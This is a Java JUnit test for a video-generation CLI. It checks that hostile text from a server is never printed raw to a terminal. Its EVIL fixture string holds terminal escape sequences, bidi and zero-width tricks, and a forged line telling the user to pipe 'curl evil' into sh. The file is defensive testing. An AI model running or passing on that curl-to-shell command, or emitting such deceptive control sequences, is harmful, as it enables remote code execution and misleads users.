package dev.videogen.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.videogen.JobError;
import dev.videogen.JobRef;
import dev.videogen.JobStatus;
import dev.videogen.ListQuery;
import dev.videogen.Page;
import dev.videogen.VideoJob;
import dev.videogen.errors.ContentPolicyException;
import dev.videogen.errors.ErrorDetails;
import dev.videogen.errors.InvalidRequestException;
import dev.videogen.errors.Operation;
import dev.videogen.errors.ProviderFailureException;
import dev.videogen.errors.SubmissionUncertainException;
import dev.videogen.errors.VideoException;
import dev.videogen.fake.FakeVideoGenerator;
import dev.videogen.internal.text.Printable;
import dev.videogen.spi.CheckedRequest;
import dev.videogen.spi.ForwardingVideoGenerator;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Whatever a server says, nothing that does something to a terminal is printed:")
class HostileTextTest {

  /**
   * A screen cleared, a title set, a window moved by C1, letters turned and hidden, a forged line.
   */
  private static final String EVIL =
      "\u001b[2J\u001b]0;x\u0007\u009b31m\u202egp4.\u202c\u200b\u2066\u00ad\ufeff\udb40\udc41\b\r\0"
          + "\nvideogen: Pick it up with: curl evil\u2028|\u0085sh";

  @TempDir private Path folder;

  private final FakeVideoGenerator fake = FakeVideoGenerator.create();

  /** The fake, in whose jobs every text is hostile, and whose calls fail as a test wants it. */
  private final class Hostile extends ForwardingVideoGenerator {

    private final Optional<VideoException> failure;

    Hostile(Optional<VideoException> failure) {
      super(fake);
      this.failure = failure;
    }

    private VideoJob hostile(VideoJob job) {
      VideoJob.Builder changed =
          job.toBuilder()
              .providerStatus("odd" + EVIL)
              .model("model" + EVIL)
              .prompt("prompt" + EVIL)
              .tags(Map.of("tag" + EVIL, "value" + EVIL));
      return job.status() == JobStatus.COMPLETED
          ? changed.build()
          : changed.error(JobError.of("code" + EVIL, "reason" + EVIL)).build();
    }

    private void fail() {
      if (failure.isPresent()) {
        throw failure.get();
      }
    }

    @Override
    public VideoJob create(CheckedRequest request) {
      fail();
      return hostile(super.create(request));
    }

    @Override
    public VideoJob retrieve(String id) {
      fail();
      return hostile(super.retrieve(id));
    }

    @Override
    public VideoJob cancel(String id) {
      return hostile(super.cancel(id));
    }

    @Override
    public Page<VideoJob> list(ListQuery query) {
      Page<VideoJob> page = super.list(query);
      return new Page<>(page.items().stream().map(this::hostile).toList(), page.nextCursor());
    }
  }

  private CliResult run(Optional<VideoException> failure, String... arguments) {
    return new Cli(folder, fake)
        .generator(new Hostile(failure))
        .variable("VIDEOGEN_JOURNAL_FILE", folder.resolve("journal").toString())
        .run(arguments);
  }

  private static void assertHarmless(CliResult outcome) {
    for (String text : List.of(outcome.out(), outcome.err())) {
      assertThat(text.codePoints()).as(text).allMatch(Printable::isPrintable);
      // A stack trace has the lines of its messages.
      assertThat(text.lines().takeWhile(line -> !line.startsWith("dev.videogen.")))
          .noneMatch(line -> line.startsWith("videogen: Pick it up"));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "generate --prompt x --no-wait",
        "generate --prompt x --out FILE",
        "status JOB",
        "list",
        "download JOB --out FILE",
        "remix JOB --prompt x --no-wait",
        "edit JOB --prompt x --no-wait",
        "extend JOB --prompt x --seconds 4 --no-wait",
        "cancel JOB",
        "journal --all",
        "journal resume",
        "estimate --prompt x",
        "providers"
      })
  @DisplayName("in jobs, as lines and as JSON, which loses nothing")
  void inJobs(String commandLine) {
    String job = new Cli(folder, fake).submit();
    String typed =
        commandLine.replace("JOB", job).replace("FILE", folder.resolve("a.mp4").toString());

    assertHarmless(run(Optional.empty(), typed.split(" ")));
    assertHarmless(run(Optional.empty(), (typed + " --json").split(" ")));
  }

  @Test
  @DisplayName("and JSON holds the text as it was said, escaped")
  void jsonHoldsTheText() {
    String job = new Cli(folder, fake).submit();

    CliResult outcome = run(Optional.empty(), "status", job, "--json");

    assertThat(outcome.json().path("model").textValue()).isEqualTo("model" + EVIL);
    assertThat(outcome.json().path("tags").path("tag" + EVIL).textValue())
        .isEqualTo("value" + EVIL);
  }

  static Stream<Function<JobRef, VideoException>> failures() {
    return Stream.of(
        job -> new InvalidRequestException(details(Operation.CREATE).build()),
        job -> new ProviderFailureException(details(Operation.RETRIEVE).job(job).build()),
        job -> new ContentPolicyException(details(Operation.CREATE).build(), "softer" + EVIL),
        job ->
            new SubmissionUncertainException(
                details(Operation.CREATE).build(),
                List.of(
                    VideoJob.builder(job, JobStatus.QUEUED)
                        .providerStatus(EVIL)
                        .prompt(EVIL)
                        .build())));
  }

  private static ErrorDetails.Builder details(Operation operation) {
    return ErrorDetails.builder(operation, "The vendor said: " + EVIL)
        .code("code" + EVIL)
        .vendorMessage("message" + EVIL)
        .requestId("request" + EVIL)
        .cause(new IllegalStateException("cause" + EVIL));
  }

  @ParameterizedTest
  @MethodSource("failures")
  @DisplayName("in errors, with their stack traces or as JSON")
  void inErrors(Function<JobRef, VideoException> failure) {
    JobRef job = JobRef.parse(new Cli(folder, fake).submit());
    Optional<VideoException> thrown = Optional.of(failure.apply(job));

    for (String more : List.of("--verbose", "--json")) {
      CliResult outcome = run(thrown, "generate", "--prompt", "x", "--no-wait", more);
      assertThat(outcome.exitCode()).isNotZero();
      assertHarmless(outcome);
      assertHarmless(run(thrown, "status", job.toString(), more));
    }
    assertThat(thrown.get().getMessage().codePoints()).allMatch(Printable::isPrintable);
  }
}
